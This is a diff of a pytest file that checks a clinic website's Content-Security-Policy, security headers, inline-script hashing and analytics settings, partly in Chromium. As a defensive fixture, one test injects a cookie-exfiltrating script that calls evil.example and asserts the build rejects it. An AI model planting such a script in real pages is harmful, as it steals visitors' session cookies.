@@ -1,5 +1,5 @@
-"""hooks/security_headers.py: the `_headers` file, the CSP `<meta>` in every page, and every page
-loading in Chromium under the header policy with no CSP violation and no console error."""
+"""csp.py and the pages' policies: `_headers`, the CSP `<meta>` in every page, only the theme's own inline
+scripts allowed, and every page loading in Chromium under the header policy with no violation or console error."""
 
 from __future__ import annotations
 
@@ -7,22 +7,16 @@ import base64
 import hashlib
 import re
 from pathlib import Path
-from types import SimpleNamespace
 
 import pytest
-from mkdocs.exceptions import PluginError
 from selectolax.lexbor import LexborHTMLParser as HTMLParser
 
-from conftest import build, html_pages
-import security_headers
-from security_headers import (
-    analytics_origins,
-    content_security_policy,
-    headers_file,
-    inline_script_hashes,
-    inline_style_hashes,
-    insert_policy_meta,
+from clinic_site.csp import (
+    analytics_origins, content_security_policy, headers_file, inline_scripts, inline_style_hashes, insert_policy_meta,
+    theme_script_hashes,
 )
+from clinic_site.errors import StaffError
+from conftest import build, html_pages
 
 REQUIRED_HEADERS = ("Content-Security-Policy", "Strict-Transport-Security", "X-Content-Type-Options",
                     "Referrer-Policy", "Permissions-Policy")
@@ -43,7 +37,6 @@ def parse_headers(text: str) -> dict[str, dict[str, str]]:
             path = line.strip()
             rules[path] = {}
         else:
-            assert path, f"header line before any path: {line!r}"
             name, _, value = line.strip().partition(":")
             rules[path][name.strip()] = value.strip()
     return rules
@@ -58,125 +51,100 @@ def meta_policy(page: Path) -> str | None:
     return node.attributes["content"] if node else None
 
 
-# Pure functions
-
-def test_only_scripts_the_browser_runs_are_hashed():
+def test_only_scripts_the_browser_runs_are_found():
     html = ('<script>alert(1)</script><script src="a.js"></script>'
             '<script type="application/ld+json">{"@type": "MedicalClinic"}</script>'
             '<script id="__config" type="application/json">{}</script><script type="module">b()</script>')
-    assert inline_script_hashes(html) == [sha256_source("alert(1)"), sha256_source("b()")]
+    assert inline_scripts(html) == ["alert(1)", "b()"]
 
 
-def test_style_blocks_and_attributes_are_hashed():
-    html = ('<style>p{color:red}</style><td style="text-align: left;">a</td>'
-            "<td style='text-align: left;'>b</td><p data-style=\"x\">c</p>")
-    assert inline_style_hashes(html) == [sha256_source("p{color:red}"), "'unsafe-hashes'",
-                                         sha256_source("text-align: left;")]
-    assert inline_style_hashes("<p>plain</p>") == []
+def test_a_script_inside_the_page_content_is_never_allowed():
+    content = "<p>Hi</p><script>steal()</script>"
+    page = f"<head><script>theme()</script></head><article>{content}</article>"
+    assert theme_script_hashes(page, content) == [sha256_source("theme()")]
 
 
 def test_the_hash_is_the_one_browsers_compute():
     # The CSP 3 spec's example: sha256 of "alert('Hello, world.');".
-    assert inline_script_hashes("<script>alert('Hello, world.');</script>") == [
-        "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"]
+    assert theme_script_hashes("<script>alert('Hello, world.');</script>", "") == ["'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"]
+
+
+def test_style_blocks_and_attributes_are_hashed():
+    html = '<style>p{color:red}</style><td style="text-align: left;">a</td><td style=\'text-align: left;\'>b</td>'
+    assert inline_style_hashes(html) == [sha256_source("p{color:red}"), "'unsafe-hashes'", sha256_source("text-align: left;")]
 
 
 def test_the_policy_names_no_other_origin_and_blocks_framing():
     policy = directives(content_security_policy(["'sha256-x'"]))
-    assert policy["default-src"] == ["'self'"]
-    assert policy["script-src"] == ["'self'", "'sha256-x'"]
-    assert policy["img-src"] == ["'self'", "data:"]
-    assert policy["frame-ancestors"] == ["'none'"]
-    assert policy["object-src"] == ["'none'"]
-    assert policy["base-uri"] == policy["form-action"] == ["'self'"]
+    assert policy["default-src"] == ["'self'"] and policy["script-src"] == ["'self'", "'sha256-x'"]
+    assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
     assert "frame-ancestors" not in directives(content_security_policy([], for_meta=True))
 
 
-def test_analytics_off_adds_no_origin_and_an_unknown_provider_stops_the_build():
-    assert analytics_origins(None) == {}
-    assert "https://www.googletagmanager.com" in analytics_origins({"provider": "google"})["script-src"]
-    with pytest.raises(PluginError, match=r"extra.analytics.provider is 'tracker'.*Use one of: google"):
-        analytics_origins({"provider": "tracker"})
+def test_analytics_off_adds_nothing_and_an_unknown_provider_names_the_config_file():
+    assert analytics_origins(None, "mkdocs.yml") == {}
+    assert "https://www.googletagmanager.com" in analytics_origins({"provider": "google"}, "mkdocs.yml")["script-src"]
+    with pytest.raises(StaffError) as caught:
+        analytics_origins({"provider": "tracker"}, "clinics/x/mkdocs.yml")
+    assert str(caught.value).startswith("clinics/x/mkdocs.yml: extra.analytics.provider: 'tracker' is not a provider")
 
 
 def test_the_meta_goes_right_after_the_charset():
-    html = insert_policy_meta('<head><meta charset="utf-8"><script>x()</script>', "default-src 'self'", "a.md")
-    assert html == ('<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
-                    'content="default-src \'self\'"><script>x()</script>')
-
-
-def test_a_page_without_a_charset_meta_is_named():
-    with pytest.raises(PluginError, match=r"^faq.md: no <meta charset=\"utf-8\">.*extend base.html"):
-        insert_policy_meta("<head><script>x()</script>", "default-src 'self'", "faq.md")
-
-
-def test_mkdocs_serve_pages_get_no_meta_so_its_live_reload_script_runs():
-    html, config = '<head><meta charset="utf-8"><script>x()</script>', SimpleNamespace(extra={})
-    try:
-        security_headers.on_startup(command="serve", dirty=False)
-        assert security_headers.with_policy(html, config, "a.md") == html
-        security_headers.on_startup(command="build", dirty=False)
-        assert "Content-Security-Policy" in security_headers.with_policy(html, config, "a.md")
-    finally:
-        security_headers.on_startup(command="build", dirty=False)
+    html = insert_policy_meta('<head><meta charset="utf-8"><script>x()</script>', "default-src 'self'")
+    assert html == '<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src \'self\'"><script>x()</script>'
+    assert insert_policy_meta("<head><script>x()</script>", "default-src 'self'") is None
 
 
 def test_headers_file_parses():
     rules = parse_headers(headers_file("default-src 'self'"))
-    assert list(rules) == ["/*"]
-    assert set(REQUIRED_HEADERS) <= set(rules["/*"])
+    assert list(rules) == ["/*"] and set(REQUIRED_HEADERS) <= set(rules["/*"])
 
 
-# The built site
+# The built sites
 
 def test_headers_file_covers_every_page(site):
-    rules = parse_headers((site / "_headers").read_text())
-    assert list(rules) == ["/*"]
-    headers = rules["/*"]
-    assert set(REQUIRED_HEADERS) <= set(headers)
-    assert headers["X-Content-Type-Options"] == "nosniff"
+    headers = parse_headers((site / "_headers").read_text())["/*"]
+    assert set(REQUIRED_HEADERS) <= set(headers) and headers["X-Content-Type-Options"] == "nosniff"
     assert int(re.search(r"max-age=(\d+)", headers["Strict-Transport-Security"]).group(1)) >= 31536000
     policy = headers["Content-Security-Policy"]
     assert not re.search(r"https?:|//", policy), f"a third-party origin in the policy: {policy}"
-    assert directives(policy)["frame-ancestors"] == ["'none'"]
     script_sources, style_sources = set(directives(policy)["script-src"]), set(directives(policy)["style-src"])
     for page in html_pages(site):
-        assert set(inline_script_hashes(page.read_text())) <= script_sources, page
-        assert set(inline_style_hashes(page.read_text())) <= style_sources, page
+        html = page.read_text()
+        assert {sha256_source(script) for script in inline_scripts(html)} <= script_sources, page
+        assert set(inline_style_hashes(html)) <= style_sources, page
 
 
 def test_every_page_carries_its_own_policy_before_any_script(site):
     for page in html_pages(site):
         html = page.read_text()
         policy = meta_policy(page)
-        assert policy, f"{page}: no CSP <meta>"
-        assert "frame-ancestors" not in policy
-        assert directives(policy)["script-src"] == ["'self'", *inline_script_hashes(html)], page
-        assert directives(policy)["style-src"] == ["'self'", *inline_style_hashes(html)], page
+        assert policy and "frame-ancestors" not in policy, page
+        assert directives(policy)["script-src"] == ["'self'", *dict.fromkeys(sha256_source(s) for s in inline_scripts(html))], page
         assert html.index('http-equiv="Content-Security-Policy"') < html.index("<script"), page
 
 
-def test_opt_in_analytics_allows_only_its_provider(project, tmp_path):
-    config = project.read_text()
-    project.write_text(config.replace("\nextra:\n", "\nextra:\n  analytics:\n    provider: google\n"
-                                                  "    property: G-TEST000000\n", 1))
-    result = build(project, tmp_path / "site")
+def test_a_script_pasted_into_a_page_is_neither_published_nor_allowed(tiny, tmp_path):
+    page = tiny.parent / "docs" / "contact.md"
+    page.write_text(page.read_text() + "\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n")
+    result = build(tiny, tmp_path / "site")
+    assert result.returncode != 0
+    assert "docs/contact.md:13: the page has a script, which is not allowed on the site" in result.stderr
+    assert not list((tmp_path / "site").rglob("*.html"))
+
+
+def test_opt_in_analytics_allows_only_its_provider(tiny, tmp_path):
+    tiny.write_text(tiny.read_text() + "extra:\n  analytics:\n    provider: google\n    property: G-TEST000000\n")
+    result = build(tiny, tmp_path / "site")
     assert result.returncode == 0, result.stderr
     policy = meta_policy(tmp_path / "site" / "index.html")
     assert "https://www.googletagmanager.com" in directives(policy)["script-src"]
     assert "G-TEST000000" in (tmp_path / "site" / "index.html").read_text()
 
 
-def test_an_unknown_analytics_provider_stops_the_build(project, tmp_path):
-    project.write_text(project.read_text().replace("\nextra:\n", "\nextra:\n  analytics:\n    provider: tracker\n", 1))
-    result = build(project, tmp_path / "site")
-    assert result.returncode != 0
-    assert "extra.analytics.provider is 'tracker'" in result.stderr
-
-
 # In Chromium, under the header policy (the test server does not read _headers, so the route adds them)
 
-@pytest.fixture(scope="module")
+@pytest.fixture
 def strict_page(browser, site, served_site):
     headers = parse_headers((site / "_headers").read_text())["/*"]
     context = browser.new_context()
@@ -195,6 +163,7 @@ def strict_page(browser, site, served_site):
     context.close()
 
 
+@pytest.mark.browser
 def test_every_page_loads_with_no_csp_violation_and_no_console_error(strict_page, site, served_site):
     problems: list[str] = []
     strict_page.on("console", lambda m: m.type in ("error", "warning") and problems.append(f"console {m.type}: {m.text}"))
@@ -208,6 +177,7 @@ def test_every_page_loads_with_no_csp_violation_and_no_console_error(strict_page
         assert problems == [], url
 
 
+@pytest.mark.browser
 def test_search_runs_under_the_policy(strict_page, served_site):
     problems: list[str] = []
     strict_page.on("console", lambda m: m.type == "error" and problems.append(m.text))
@@ -217,8 +187,9 @@ def test_search_runs_under_the_policy(strict_page, served_site):
     assert problems + strict_page.evaluate("window.__violations") == []
 
 
-def test_a_changed_inline_script_is_blocked(strict_page, site, served_site, tmp_path):
-    """The browser test can fail: an inline script whose hash is not in the policy is reported."""
+@pytest.mark.browser
+def test_an_added_inline_script_is_blocked(strict_page, site, served_site):
+    """The browser check can fail: an inline script whose hash is not in the policy is reported."""
     page = strict_page.context.new_page()
     violations: list[str] = []
     page.on("console", lambda m: m.type == "error" and violations.append(m.text))
